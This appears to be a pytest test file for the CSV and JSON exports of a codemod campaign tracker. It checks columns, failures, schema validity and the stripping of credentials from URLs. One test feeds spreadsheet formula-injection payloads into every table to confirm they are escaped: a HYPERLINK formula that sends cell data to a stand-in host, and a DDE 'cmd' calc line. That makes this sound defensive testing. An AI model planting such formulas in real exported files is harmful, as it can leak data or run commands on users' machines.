import csv
import io
import json
import re
from dataclasses import fields, replace
from importlib import resources

import jsonschema
import pytest
from campaigns import CAMPAIGN, HISTORY, ROWS
from hypothesis import given
from hypothesis import strategies as st

from eventlet_codemod.batch import tables
from eventlet_codemod.batch.model import Counts, Point, Row, Snapshot, StageRow

ALL = (
    tables.repos_csv,
    tables.stages_csv,
    tables.rules_csv,
    tables.failures_csv,
    tables.history_csv,
)

SCHEMA = json.loads(
    resources.files("eventlet_codemod.batch").joinpath("campaign.schema.json").read_text()
)


def read(text):
    return list(csv.DictReader(io.StringIO(text)))


def filled(text):
    row = Row(
        name=text,
        state="failed",
        source=text,
        ref=text,
        base=text,
        group=text,
        owner=text,
        stage=text,
        reason=text,
        log=text,
        patches=text,
        ledger=text,
        tests=text,
        published=(text,),
        stages=(StageRow(text, "failed", 1, text),),
        counts=Counts(uses=1, by_rule={text: 1}),
    )
    return Snapshot(
        campaign=text, version=text, rows=(row,), history=(Point(text, 1, 1, 1, 1, 1, 1),)
    )


def test_a_repository_is_a_line():
    lines = read(tables.repos_csv(CAMPAIGN))
    assert [line["name"] for line in lines] == [row.name for row in ROWS]
    first = lines[0]
    assert first["patches_directory"] == "openstack/oslo.messaging/patches"
    names = ("uses", "safe", "review", "manual", "suppressed", "left", "patches", "lines")
    assert [first[name] for name in names] == ["23", "12", "6", "4", "1", "5", "5", "310"]
    assert (first["seconds"], first["cached"], first["peak_memory"]) == ("41.2", "0", "210000000")
    assert lines[3]["cached"] == "1"


def test_every_field_of_a_repository_and_its_counts_has_a_column():
    columns = set(read(tables.repos_csv(CAMPAIGN))[0])
    assert {each.name for each in fields(Row)} - {"stages", "counts"} <= columns
    assert {each.name for each in fields(Counts)} - {"by_rule"} <= columns


def test_of_what_was_not_tried_nothing_is_counted():
    by_name = {line["name"]: line for line in read(tables.repos_csv(CAMPAIGN))}
    heat, keystone = by_name["openstack/heat"], by_name["openstack/keystone"]
    assert (heat["state"], heat["uses"], heat["stage"], heat["reason"]) == ("waiting", "", "", "")
    assert (keystone["state"], keystone["uses"]) == ("clean", "0")
    assert [line["name"] for line in read(tables.failures_csv(CAMPAIGN))] == ["openstack/nova"]


def test_failures_say_where_and_why():
    assert read(tables.failures_csv(CAMPAIGN)) == [
        {
            "name": "openstack/nova",
            "stage": "tests",
            "reason": "3 tests fail after the rewrite that did not before",
            "owner": "nova",
            "group": "compute",
            "wave": "2",
            "attempts": "2",
            "seconds": "1842",
            "log": "openstack/nova/log.txt",
        }
    ]


def test_stages_rules_and_history_are_lines():
    assert tables.stages_csv(CAMPAIGN).splitlines()[:3] == [
        "name,stage,state,seconds,detail",
        "openstack/oslo.messaging,fetch,done,2.5,",
        "openstack/oslo.messaging,tests,done,30,12 passed",
    ]
    assert tables.rules_csv(CAMPAIGN).splitlines() == [
        "name,rule,uses",
        ",EVT101 sleep,14",
        ",EVT201 spawn,12",
        "openstack/oslo.messaging,EVT101 sleep,14",
        "openstack/oslo.messaging,EVT201 spawn,9",
        "openstack/cinder,EVT201 spawn,3",
    ]
    lines = tables.history_csv(CAMPAIGN).splitlines()
    assert len(lines) == 1 + len(HISTORY)
    assert lines[1] == "2026-09-01T10:00:00+00:00,7,3,2,61,30,25,31"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://example.org?"&A1,"x")',
        "+1",
        "-1+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "  =1",
        "＝1",
        '=1","=2',
    ],
)
@pytest.mark.parametrize("table", ALL)
def test_no_cell_is_a_formula(table, text):
    lines = list(csv.reader(io.StringIO(table(filled(text)))))
    cells = [cell for line in lines[1:] for cell in line]
    assert f"'{tables.shown(text)}" in cells
    assert not [cell for cell in cells if re.match(r"\s*[=+\-@＝＋－＠\t\r]", cell)]


@given(st.text(min_size=1))
@pytest.mark.parametrize("table", ALL)
def test_any_text_is_one_cell(table, text):
    written = table(filled(text))
    written.encode()
    lines = list(csv.reader(io.StringIO(written)))
    assert {len(line) for line in lines} == {len(lines[0])}
    said = tables.shown(text)
    assert {said, f"'{said}"} & {cell for line in lines[1:] for cell in line}


def test_other_text_is_as_it_is():
    text = 'a "quoted", text: 1=1 – ünïcode'
    assert read(tables.failures_csv(filled(text)))[0]["reason"] == text


@pytest.mark.parametrize(
    ("source", "said"),
    [
        ("https://t0ken@example.org/a", "https://example.org/a"),
        ("HTTP://user:t0ken@example.org/a", "HTTP://example.org/a"),
        ("ssh://user:t0ken@example.org/a", "ssh://example.org/a"),
        ("ssh://git@example.org/a", "ssh://git@example.org/a"),
        ("git@example.org:a", "git@example.org:a"),
        ("https://example.org/@scope/a", "https://example.org/@scope/a"),
        ("fatal: 'https://t0ken@example.org/': 403", "fatal: 'https://example.org/': 403"),
    ],
)
def test_nobody_reads_who_signs_on(source, said):
    snapshot = filled(source)
    repo = json.loads(tables.as_json(snapshot))["repos"][0]
    assert (repo["source"], repo["reason"], repo["published"]) == (said, said, [said])
    assert read(tables.repos_csv(snapshot))[0]["source"] == said
    assert not [table for table in ALL if "t0ken" in table(snapshot)]


def test_the_schema_is_one_and_ships_in_the_wheel():
    jsonschema.Draft202012Validator.check_schema(SCHEMA)
    assert SCHEMA["properties"]["schema"] == {"const": tables.SCHEMA_VERSION}


@pytest.mark.parametrize(
    "snapshot",
    [CAMPAIGN, filled("<\udcff\ud800\n"), Snapshot(campaign="", version="", rows=())],
)
def test_the_document_is_as_its_schema_says(snapshot):
    text = tables.as_json(snapshot)
    assert text.isascii()
    jsonschema.validate(json.loads(text), SCHEMA)


def test_the_document_says_all_that_the_campaign_says():
    told = json.loads(tables.as_json(CAMPAIGN))
    repos = [
        Row(
            **repo
            | {
                "stages": tuple(StageRow(**stage) for stage in repo["stages"]),
                "counts": repo["counts"] and Counts(**repo["counts"]),
                "published": tuple(repo["published"]),
            }
        )
        for repo in told["repos"]
    ]
    assert tuple(repos) == ROWS
    assert tuple(Point(**point) for point in told["history"]) == HISTORY
    head = told["campaign"]
    again = Snapshot(
        campaign=head.pop("name"),
        version=told["tool"]["version"],
        rows=tuple(repos),
        history=HISTORY,
        **head,
    )
    assert again == CAMPAIGN
    assert told["summary"]["states"] == {
        "failed": 1,
        "running": 1,
        "waiting": 2,
        "changed": 1,
        "left": 1,
        "clean": 1,
    }
    assert told["summary"]["rules"] == {"EVT101 sleep": 14, "EVT201 spawn": 12}


@pytest.mark.parametrize("change", [{"state": "paused"}, {"attempts": -1}, {"surprise": 1}])
def test_the_schema_refuses_what_is_not_of_it(change):
    told = json.loads(tables.as_json(replace(CAMPAIGN, rows=ROWS[:1])))
    told["repos"][0].update(change)
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(told, SCHEMA)
